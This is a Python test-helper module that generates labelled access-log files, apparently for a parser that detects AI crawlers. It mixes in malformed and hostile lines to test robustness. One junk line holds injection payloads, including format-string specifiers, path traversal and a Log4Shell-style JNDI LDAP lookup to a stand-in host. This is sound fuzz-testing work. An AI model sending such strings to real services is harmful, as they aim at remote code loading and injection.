"""Lines and files: requests written down in some form, with hostile lines between them."""

import gzip
import hashlib
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.accesslog.labelled.clients import BROWSERS
from tests.accesslog.labelled.definitions import FACTS
from tests.accesslog.labelled.forms import Form
from tests.accesslog.labelled.traffic import Request

_TOKENS = tuple(token.lower().encode() for token in FACTS)
_WHOLE = re.compile(rb"(?<![a-z0-9_-])(gptbot|claudebot|mistralai-training)(?![a-z0-9_-])")
_NO_TIMES = (
    "yesterday",
    "32/Oct/2026:10:00:00 +0000",
    "01/Foo/2026:10:00:00 +0000",
    "-",
    "2026-13-45",
    "%s%n",
)
_CLEAN = 20
"""Lines at the beginning of a file that are as they should be: by these a form is recognised."""


@dataclass(frozen=True, slots=True)
class Line:
    """A line without its end. ``kind``: crawler, other or unreadable; a crawler's line has its request."""

    raw: bytes
    kind: str
    request: Request | None = None

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.raw).hexdigest()


@dataclass(frozen=True, slots=True)
class LogFile:
    name: str
    form: Form
    lines: tuple[Line, ...]


def write_down(request: Request, form: Form, rng: random.Random) -> Line:
    kind = "crawler" if request.crawler and form.agents else "other"
    crawler = form.agents and (request.crawler or request.client.unknown or request.client.audit)
    return Line(form.line(request, None, rng), kind, request if crawler else None)


def make_file(
    name: str, form: Form, requests: list[Request], rng: random.Random, *, hostile: int = 0
) -> LogFile:
    """Return the requests that this form can express, with ``hostile`` other lines between them."""
    carried = [request for request in requests if form.carries(request)]
    lines = [write_down(request, form, rng) for request in carried]
    junk = _junk(form, carried, rng)
    for _ in range(hostile):
        lines.insert(rng.randint(0 if form.options else min(_CLEAN, len(lines)), len(lines)), next(junk))
    head = [Line(raw, "other") for raw in form.head]
    return LogFile(name, form, tuple(head + lines))


def kind_unread(raw: bytes) -> str | None:
    """Return the kind of a broken line; None if a token is part of a word, which is ambiguous."""
    lowered = raw.lower()
    if _WHOLE.search(lowered):
        return "unreadable"
    return None if any(token in lowered for token in _TOKENS) else "other"


def _junk(form: Form, carried: list[Request], rng: random.Random) -> Iterator[Line]:
    """Return lines that are unreadable in this form: *other* without a token, *unreadable* with one."""
    browsers = [request for request in carried if request.client.user_agent in BROWSERS]
    crawlers = [request for request in carried if request.crawler == "GPTBot"]
    names = b"GPTBot/1.2", b"Mozilla/5.0 (compatible; ClaudeBot/1.0)", b"MistralAI-Training/1.0"
    long = True
    while True:
        some = rng.choice(browsers)
        complete = form.line(some, None, rng)
        raw = rng.choice(
            (
                b"",
                b"   ",
                rng.randbytes(rng.randint(1, 200)).replace(b"\n", b"").replace(b"\r", b""),
                complete[: rng.randint(0, len(complete) // 3)],
                b'"' * rng.randint(1, 50),
                b"{" * 200 + b"[" * 5000,
                b"%s%s%s%n %00%0a%0d%2e%2e/ ${jndi:ldap://x.example/a}",
                b"\xed\xa0\x80\xff\xfe \xc3( \x1b[31mred\x1b[0m",
                b"one\rreturn and \xe2\x80\xa8 \xc2\x85 \x0b \x0c \x1c that end no line",
                complete[: rng.randint(0, len(complete) // 3)] + b" " + rng.choice(names),
                form.line(some, rng.choice(_NO_TIMES), rng) + b" " + rng.choice(names),
                form.line(rng.choice(crawlers), rng.choice(_NO_TIMES), rng),
                rng.choice(form.broken),
                rng.choice(form.broken),
            )
        )
        if raw.startswith(b"#"):  # a directive, where there are any
            continue
        if long and rng.random() < 0.1:
            raw, long = raw + b" " + b"a" * 1_000_000, False
        kind = kind_unread(raw)
        if kind:
            yield Line(raw, kind)


def write_file(file: LogFile, folder: Path, rng: random.Random) -> None:
    """Write a log as its name implies: plain, ``.gz`` (several members) or ``.zst`` (several frames).

    Lines end in LF or CRLF; the last one sometimes in nothing.
    """
    newline = rng.choice((b"\n", b"\n", b"\r\n"))
    data = newline.join(line.raw for line in file.lines)
    if rng.random() < 0.7 or not data or not file.lines[-1].raw:  # else the last line would be no line
        data += newline
    (folder / file.name).write_bytes(packed(data, file.name, rng))


def packed(data: bytes, name: str, rng: random.Random) -> bytes:
    cuts = sorted(rng.randint(0, len(data)) for _ in range(rng.randint(0, 3)))
    parts = [data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)], strict=True)]
    if name.endswith(".gz"):
        return b"".join(gzip.compress(part, 1) for part in parts)
    if name.endswith(".zst"):
        from backports import zstd

        return b"".join(zstd.compress(part) for part in parts)
    return data
